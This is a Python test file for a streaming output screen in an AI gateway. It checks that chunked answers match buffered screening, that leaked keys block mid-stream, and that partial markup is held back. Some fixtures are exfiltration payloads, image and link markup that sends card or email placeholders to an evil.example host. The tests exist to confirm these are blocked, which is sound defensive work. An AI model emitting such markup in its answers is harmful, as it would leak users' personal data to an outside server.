"""StreamScreen: an answer is released only once screened in context, and ends as the buffered release."""

from __future__ import annotations

from typing import Final

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from secure_ai_gateway.screening.canary import new_canary
from secure_ai_gateway.screening.errors import StreamEnded
from secure_ai_gateway.screening.policy import DEFAULT_POLICY, Policy
from secure_ai_gateway.screening.registry import DETECTOR_SPECS
from secure_ai_gateway.screening.streaming import StreamScreen, stream_hold_back
from secure_ai_gateway.screening.verdict import keyed_digest
from secure_ai_protocol.errors import PayloadTooLarge
from tests.gateway.screening.fakes import AWS_ACCESS_KEY, CARD, EMAIL, ScoringModeration, local_policy
from tests.gateway.screening.streams import DIGEST_KEY, PSEUDONYMS, buffered, chunks_at, deltas, stream

POLICY: Final = local_policy(allowed_hosts=["docs.example.com"])
PROSE: Final = (
    "Streaming answers arrive a few words at a time, and each piece is checked before it is shown. "
    "The checks look at the text around each piece, so nothing is judged out of context. "
)
BENIGN: Final = {
    "prose": PROSE * 6,
    "code": PROSE * 2
    + "\n\n```python\ndef total(items: list[int]) -> int:\n    return sum(items[1:])\n```\n\n"
    + PROSE * 2,
    "links": PROSE * 2
    + "See [the guide](https://docs.example.com/guide?ref=Zm9vYmFyYmF6cXV4) and "
    + "![diagram](https://docs.example.com/d.png) and <https://docs.example.com/x>.\n\n"
    + PROSE * 2,
    "restored_email": PROSE * 2 + "I will write to <EMAIL_1> tomorrow. " + PROSE * 2,
    "html": PROSE * 2 + '<a href="https://docs.example.com/a">the page</a> <b>bold</b>\n\n' + PROSE,
}


def _without_latency(verdict: object) -> object:
    return verdict.model_copy(update={"latency_ms": {}})  # type: ignore[attr-defined]


# The hold-back.


def test_the_hold_back_is_one_more_than_the_largest_reach_the_registry_declares() -> None:
    reaches = [spec.stream_reach(POLICY, None) for spec in DETECTOR_SPECS if spec.stream_reach is not None]
    assert stream_hold_back(POLICY, None) == max(reaches) + 1
    # Whole-text detectors are not windowed: they buffer or judge sentence windows.
    assert {spec.name for spec in DETECTOR_SPECS if spec.stream_reach is None} == {"schema", "moderation"}


def test_a_long_canary_or_deny_term_widens_the_hold_back() -> None:
    base = stream_hold_back(POLICY, None)
    long_canary = "-".join([new_canary()] * 3)
    assert stream_hold_back(POLICY, long_canary) > base
    term = " ".join("nightjar" * 6)  # 48 one-letter words: each gap may stretch to four characters
    assert stream_hold_back(local_policy(deny_terms=[term]), None) > base


def test_a_hold_back_shorter_than_the_derived_one_is_refused() -> None:
    derived = stream_hold_back(POLICY, None)
    with pytest.raises(ValueError, match="at least"):
        StreamScreen(POLICY, pseudonyms=PSEUDONYMS, canary=None, schema=None, moderation=None,
                     digest_key=None, hold_back_chars=derived - 1)  # fmt: skip
    screen = StreamScreen(POLICY, pseudonyms=PSEUDONYMS, canary=None, schema=None, moderation=None,
                          digest_key=None, hold_back_chars=derived + 100)  # fmt: skip
    assert screen.hold_back == derived + 100


# Benign answers: the stream releases what the buffered path releases.


@pytest.mark.parametrize("name", sorted(BENIGN))
@pytest.mark.parametrize("size", [1, 5, 40])
def test_a_benign_answer_streamed_releases_exactly_the_buffered_text(name: str, size: int) -> None:
    answer = BENIGN[name]
    whole = buffered(answer, POLICY)
    streamed = stream(deltas(answer, size), POLICY)
    assert whole.text is not None
    assert streamed.text == whole.text
    assert _without_latency(streamed.verdict) == _without_latency(whole.verdict)
    assert streamed.verdict.content_digest == keyed_digest(DIGEST_KEY, streamed.text.encode())
    # And it streamed: text was released before the end.
    assert streamed.released_before_end


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    name=st.sampled_from(sorted(BENIGN)), cuts=st.lists(st.integers(min_value=1, max_value=2000), max_size=30)
)
def test_any_chunking_of_a_benign_answer_releases_the_buffered_text(name: str, cuts: list[int]) -> None:
    answer = BENIGN[name]
    streamed = stream(chunks_at(answer, *(cut % len(answer) for cut in cuts)), POLICY)
    whole = buffered(answer, POLICY)
    assert streamed.text == whole.text
    assert streamed.verdict.decision == whole.verdict.decision
    assert streamed.verdict.content_digest == whole.verdict.content_digest


# Pseudonyms.


@pytest.mark.parametrize("split", range(1, len("<EMAIL_1>")))
def test_a_placeholder_split_across_deltas_is_restored(split: int) -> None:
    answer = PROSE * 3 + "Write to <EMAIL_1> soon. " + PROSE * 3
    at = answer.index("<EMAIL_1>") + split
    streamed = stream([*deltas(answer[:at], 7), *deltas(answer[at:], 7)], POLICY)
    assert streamed.verdict.decision == "allow"
    assert f"Write to {EMAIL} soon." in streamed.text
    assert "<EMA" not in streamed.text


@pytest.mark.parametrize(
    "markup",
    ["![x](https://<CARD_1>.evil.example/p.png)", "[site](https://evil.example/?q=<EMAIL_1>)",
     '<img src="https://evil.example/<EMAIL_1>.png">', "https://<EMAIL_1>.evil.example/p"],
)  # fmt: skip
def test_a_placeholder_in_markup_blocks_and_its_value_is_never_released(markup: str) -> None:
    answer = PROSE * 2 + markup + " " + PROSE * 4
    for size in (3, 11):
        streamed = stream(deltas(answer, size), POLICY)
        assert streamed.verdict.decision == "block"
        assert EMAIL not in streamed.text
        assert CARD not in streamed.text
        assert "evil.example" not in streamed.text


# Blocks and redactions in mid-stream.


def test_a_block_in_mid_stream_ends_the_stream_without_the_text() -> None:
    answer = PROSE * 2 + f"The key is {AWS_ACCESS_KEY} here. " + PROSE * 4
    screen = StreamScreen(POLICY, pseudonyms=PSEUDONYMS, canary=None, schema=None, moderation=None,
                          digest_key=DIGEST_KEY)  # fmt: skip
    released = ""
    for chunk in deltas(answer, 9):
        step = screen.feed(chunk)
        released += step.released
        if step.verdict is not None:
            break
    assert step.verdict is not None
    assert step.verdict.decision == "block"
    assert step.verdict.finding_types == ("aws_access_key",)
    assert step.verdict.content_digest is None
    assert AWS_ACCESS_KEY not in step.verdict.model_dump_json()
    assert AWS_ACCESS_KEY[:8] not in released
    with pytest.raises(StreamEnded):
        screen.feed("more")
    with pytest.raises(StreamEnded):
        screen.finish()


def test_a_redaction_is_applied_to_held_text_before_release_as_the_buffered_path_does() -> None:
    answer = PROSE * 2 + "Reach the vendor at help@vendor.example today. " + PROSE * 4
    streamed = stream(deltas(answer, 5), POLICY)
    whole = buffered(answer, POLICY)
    assert not streamed.ended_mid_stream
    assert "[EMAIL]" in streamed.released_before_end  # released before the end, redacted
    assert "help@vendor" not in streamed.text
    assert (streamed.verdict.decision, streamed.text) == ("redact", whole.text)
    assert streamed.verdict.content_digest == keyed_digest(DIGEST_KEY, streamed.text.encode())


def test_finish_after_finish_raises() -> None:
    screen = StreamScreen(POLICY, pseudonyms=PSEUDONYMS, canary=None, schema=None, moderation=None,
                          digest_key=None)  # fmt: skip
    screen.feed("Hello.")
    assert screen.finish().released == "Hello."
    with pytest.raises(StreamEnded):
        screen.finish()


def test_more_than_the_screens_cap_is_refused() -> None:
    screen = StreamScreen(POLICY, pseudonyms=PSEUDONYMS, canary=None, schema=None, moderation=None,
                          digest_key=None, hold_back_chars=1 << 21)  # fmt: skip
    with pytest.raises(PayloadTooLarge):
        screen.feed("a" * ((1 << 20) + 1))
    with pytest.raises(StreamEnded):
        screen.finish()


# Constructs are never released partly.


@pytest.mark.parametrize(
    "construct",
    [
        "![diagram](https://docs.example.com/d.png",
        "[the guide",
        '<img src="https://docs.example.com/d.png"',
        "<!-- a comment",
        "<style>p { color: red }",
        "```python\nx = 1\n",
        "[ref]: https://docs.example.com/a",
    ],
)
def test_an_open_construct_is_held_from_its_first_character(construct: str) -> None:
    screen = StreamScreen(POLICY, pseudonyms=PSEUDONYMS, canary=None, schema=None, moderation=None,
                          digest_key=None)  # fmt: skip
    head = PROSE * 3 + "\n\n"
    released = "".join(screen.feed(chunk).released for chunk in deltas(head + construct + " word" * 200, 10))
    assert released
    assert len(released) <= len(head)


def test_an_encrypted_key_header_is_held_until_its_end_line() -> None:
    header = "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B2C3D\n\n"
    screen = StreamScreen(POLICY, pseudonyms=PSEUDONYMS, canary=None, schema=None, moderation=None,
                          digest_key=None)  # fmt: skip
    released = "".join(
        screen.feed(chunk).released for chunk in deltas(PROSE * 3 + header + "ab cd " * 100, 10)
    )
    assert "BEGIN" not in released


# Whole-text detectors: buffer by default, or moderate sentence windows.


def test_moderation_buffers_the_stream_by_default() -> None:
    moderation = ScoringModeration({"violence": 0.1})
    streamed = stream(deltas(PROSE * 5, 5), DEFAULT_POLICY, moderation=moderation)
    assert streamed.released_before_end == ""
    assert streamed.text == PROSE * 5
    assert moderation.calls == [PROSE * 5]


def test_a_schema_buffers_the_stream() -> None:
    answer = '{"name": "' + "x" * 600 + '"}'
    schema = {"type": "object", "required": ["name"]}
    streamed = stream(deltas(answer, 5), POLICY, schema=schema)
    assert streamed.released_before_end == ""
    assert (streamed.verdict.decision, streamed.text) == ("allow", answer)


def test_incremental_moderation_releases_whole_sentences_after_moderating_them() -> None:
    policy = Policy(policy_id="t", version=1, stream_modes={"moderation": "incremental"})
    moderation = ScoringModeration({"violence": 0.1})
    streamed = stream(deltas(PROSE * 5, 5), policy, moderation=moderation)
    assert streamed.text == PROSE * 5
    assert streamed.released_before_end
    for piece in streamed.releases[:-1]:
        assert piece == "" or piece.endswith((".", "\n"))
    # Every release was moderated before it was sent, and the whole text at the end.
    assert len(moderation.calls) >= 2
    assert moderation.calls[-1] == PROSE * 5


def test_incremental_moderation_blocks_in_mid_stream() -> None:
    policy = Policy(policy_id="t", version=1, stream_modes={"moderation": "incremental"})
    moderation = ScoringModeration({"violence": 0.9})
    streamed = stream(deltas(PROSE * 5, 5), policy, moderation=moderation)
    assert streamed.ended_mid_stream
    assert streamed.text == ""
    assert streamed.verdict.decision == "block"
    assert [finding.label for finding in streamed.verdict.findings] == ["violence"]


def test_stream_modes_are_validated() -> None:
    assert DEFAULT_POLICY.stream_mode_for("moderation") == "buffer"
    for modes in ({"schema": "incremental"}, {"pii": "buffer"}, {"nope": "buffer"}, {"moderation": "later"}):
        with pytest.raises(ValueError, match="stream_modes"):
            Policy.model_validate({"policy_id": "t", "version": 1, "stream_modes": modes})
